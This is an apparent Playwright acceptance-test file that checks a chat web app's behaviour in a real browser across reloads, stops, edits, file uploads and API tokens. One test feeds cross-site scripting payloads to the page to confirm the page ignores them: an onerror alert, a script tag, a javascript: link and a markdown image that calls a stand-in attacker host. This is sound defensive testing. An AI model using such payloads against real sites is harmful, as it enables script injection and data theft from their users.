"""The chat page in a real browser: what a person sees when pages close, open and reload in mid-run."""

import shutil
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route, expect, sync_playwright

from agents.demo.scripts import token
from tests.acceptance.audit import calls, new_key
from tests.acceptance.client import Client
from tests.acceptance.cluster import Account, Cluster

CHROMIUM = shutil.which("chromium")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine (.ci/run installs it)")

# A run of a hundred tokens takes five seconds; a busy machine, longer.
expect.set_options(timeout=20_000)

ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]


@pytest.fixture(scope="module")
def account(cluster: Cluster) -> Account:
    return cluster.account()


@pytest.fixture
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield browser
        browser.close()


def log_in(browser: Browser, cluster: Cluster, account: Account, path: str = "/") -> Page:
    """A browser of its own, so to say: cookies and storage are not shared with any other page."""
    page = browser.new_context().new_page()
    page.set_default_timeout(20_000)
    page.goto(f"{cluster.address}{path}")
    page.fill("#id_username", account.username)
    page.fill("#id_password", account.password)
    page.click("button[type=submit]")
    # The page's script has arrived when it has put the cursor into the box.
    page.wait_for_selector("textarea:focus")
    return page


def say(page: Page, text: str) -> None:
    page.fill("textarea", text)
    page.keyboard.press("Enter")


def test_a_page_closed_at_token_twenty_is_continued_in_another_browser(
    browser: Browser, cluster: Cluster, account: Account
) -> None:
    key = new_key()
    first = log_in(browser, cluster, account)
    say(first, f"script:text tokens:150 rate:20 key:{key}")
    expect(first.locator("main")).to_contain_text(token(20, 0).text.strip())
    first.wait_for_url("**/c/*")
    path = first.url.removeprefix(cluster.address)
    first.context.close()
    # the text is there, and growing
    other = log_in(browser, cluster, account, path)
    expect(other.locator("main")).to_contain_text(token(20, 0).text.strip())
    expect(other.locator("main")).not_to_contain_text(token(149, 0).text.strip())
    expect(other.locator("main")).to_contain_text(token(149, 0).text.strip())
    # a third comes after the end: both show what the provider sent, which is what is stored
    third = log_in(browser, cluster, account, path)
    with Client(cluster.address, account.token) as client:
        (_, answer) = client.messages(path.removeprefix("/c/"))
    (call,) = calls(cluster, key)
    assert answer["text"] == call["sent_text"]
    for page in (other, third):
        expect(page.locator("main")).to_contain_text(" ".join(call["sent_text"].split()), use_inner_text=True)


def test_a_reload_in_mid_run_goes_on_and_a_stop_is_shown_as_one(
    browser: Browser, cluster: Cluster, account: Account
) -> None:
    page = log_in(browser, cluster, account)
    say(page, f"script:text tokens:2000 rate:20 key:{new_key()}")
    expect(page.locator("main")).to_contain_text(token(10, 0).text.strip())
    page.reload()
    expect(page.locator("main")).to_contain_text(token(30, 0).text.strip())
    page.get_by_role("button", name="Stop").click()
    expect(page.locator("main")).to_contain_text("Stopped.")
    # and the chat goes on
    say(page, f"script:text tokens:3 key:{new_key()}")
    expect(page.locator("main")).to_contain_text("tokens in")


def test_what_is_typed_before_the_script_has_arrived_is_kept(
    browser: Browser, cluster: Cluster, account: Account
) -> None:
    page = log_in(browser, cluster, account)
    with page.expect_request("**/page*.js"):
        held: list[Route] = []
        page.route("**/page*.js", lambda route: held.append(route))
        page.reload(wait_until="commit")
    page.fill("textarea", "typed early")
    held[0].continue_()
    page.wait_for_selector("textarea:focus")
    expect(page.locator("textarea")).to_have_value("typed early")


def test_what_a_model_writes_makes_the_page_do_nothing(browser: Browser, cluster: Cluster, account: Account) -> None:
    page = log_in(browser, cluster, account)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append("dialog"))
    say(
        page, "<img src=x onerror=alert(1)> ![x](https://evil.example/?d=1) <script>alert(2)</script> [c](javascript:a)"
    )
    expect(page.locator("main")).to_contain_text("tokens in")
    assert not [url for url in asked if not url.startswith((cluster.address, "blob:"))]
    assert page.locator("main img[src*=evil]").count() == 0


def test_a_text_file_goes_with_a_message_and_the_chat_gets_a_title(
    browser: Browser, cluster: Cluster, account: Account
) -> None:
    page = log_in(browser, cluster, account)
    files = [("notes.txt", b"<b>milk</b>"), ("b.bin", b"\0\xff"), ("large", b"x" * 2**20 + b"x")]
    page.set_input_files("#picker", [{"name": name, "mimeType": "", "buffer": data} for name, data in files])
    expect(page.locator("#files")).to_have_text("notes.txt×")
    expect(page.locator("#notice")).to_contain_text("b.bin is not a text file. large is too large")
    say(page, "Remember the milk, please, and the eggs")
    expect(page.locator("main")).to_contain_text("tokens in", timeout=20_000)
    # the file is shown by name, and what is in it as text
    page.locator("details.file summary").click()
    expect(page.locator("details.file .plain")).to_have_text("<b>milk</b>")
    expect(page.locator("#files")).to_be_hidden()
    # and the title arrives without a reload
    expect(page.locator("#title")).to_have_text("About: Remember the milk, please, and the", timeout=20_000)


def test_a_message_is_edited_an_answer_written_anew_and_an_interrupted_one_continued(
    browser: Browser, cluster: Cluster, account: Account
) -> None:
    page = log_in(browser, cluster, account)
    main = page.locator("main")
    say(page, f"script:text tokens:3 key:{new_key()}")
    expect(main).to_contain_text("tokens in", timeout=20_000)
    # a message is edited; what was being written comes back afterwards
    page.fill("textarea", "a draft")
    page.get_by_role("button", name="Edit").click()
    say(page, f"script:eof after:3 times:1 key:{new_key()}")
    expect(page.locator("textarea")).to_have_value("a draft")
    page.get_by_role("button", name="Continue").wait_for()
    assert page.locator("article").count() == 2
    # an answer is written anew
    page.get_by_role("button", name="Try again").click()
    expect(main).to_contain_text("tokens in", timeout=20_000)
    assert page.locator("article").count() == 2
    # an interrupted one is gone on with, behind it
    say(page, f"script:text tokens:2000 rate:20 key:{new_key()}")
    expect(main).to_contain_text(token(30, 0).text.strip())
    page.get_by_role("button", name="Stop").click()
    page.get_by_role("button", name="Continue").press("Enter")
    expect(main).to_contain_text("That was all I had to say.", timeout=20_000)
    expect(page.locator("article")).to_have_count(5)


def test_the_limit_that_made_an_answer_shorter_is_named_and_still_is_after_a_reload(
    browser: Browser, cluster: Cluster, account: Account
) -> None:
    with Client(cluster.address, account.token) as client:
        chat = client.chat()
        client.post_run(
            chat, f'call:current_time={{"zone": "UTC"}} tokens:60 rate:20 key:{new_key()}', limits={"steps": 2}
        )
    page = log_in(browser, cluster, account, f"/c/{chat}")
    named = "The answer ends here: the run reached its limit of 2 steps."
    expect(page.locator("main")).to_contain_text(named)
    page.reload()
    expect(page.locator("main")).to_contain_text(named)


def test_a_token_is_made_from_the_menu_lets_a_program_in_and_is_revoked(browser: Browser, cluster: Cluster) -> None:
    account = cluster.account()
    page = log_in(browser, cluster, account)
    page.get_by_role("link", name="Tokens").click()
    page.get_by_label("Name").fill("laptop <b>")
    page.get_by_label("Expires after").select_option("90 days")
    page.get_by_role("button", name="Make a token").click()
    secret = page.locator("#secret").inner_text()
    with Client(cluster.address, secret) as client:
        client.chat()
    page.get_by_role("link", name="Back to the chats").click()
    page.get_by_role("link", name="Tokens").click()
    expect(page.locator("#secret")).to_have_count(0)
    row = page.get_by_role("row").filter(has_text="laptop <b>")
    expect(row).to_contain_text(secret[:15])
    expect(row).not_to_contain_text("never")  # it was used
    row.get_by_role("button", name="Revoke").click()
    expect(row).to_have_count(0)
    with Client(cluster.address, secret) as client:
        client.ask("GET", "/api/me", expect=401)


def test_where_detached_runs_are_off_an_answer_lives_as_long_as_its_page(browser: Browser, cluster: Cluster) -> None:
    account = cluster.account()
    cluster.query("UPDATE chat_workspace SET autonomous_runs = false WHERE id = %s", account.workspace_id)
    page = log_in(browser, cluster, account)
    page.set_input_files("input[type=file]", {"name": "a.txt", "mimeType": "text/plain", "buffer": "ä%€".encode()})
    say(page, "say:5 tokens:5")
    expect(page.locator("main")).to_contain_text(token(4, 0).text.strip())
    page.wait_for_url("**/c/*")
    # a second answer, and one written anew, in a page that goes away
    key = new_key()
    say(page, f"script:text tokens:400 rate:20 key:{key}")
    expect(page.locator("main")).to_contain_text(token(20, 0).text.strip())
    page.reload()
    expect(page.locator("main")).to_contain_text("stopped", ignore_case=True)
    with Client(cluster.address, account.token) as client:
        chat = page.url.rpartition("/")[2]
        (aborted, first) = client.ask("GET", f"/api/chats/{chat}/runs")["results"]
        assert (aborted["status"], aborted["stop_source"]) == ("aborted", "disconnect")
        assert (first["status"], first["detached"]) == ("succeeded", False)
        assert client.messages(chat)[0]["parts"][0]["filename"] == "a.txt"
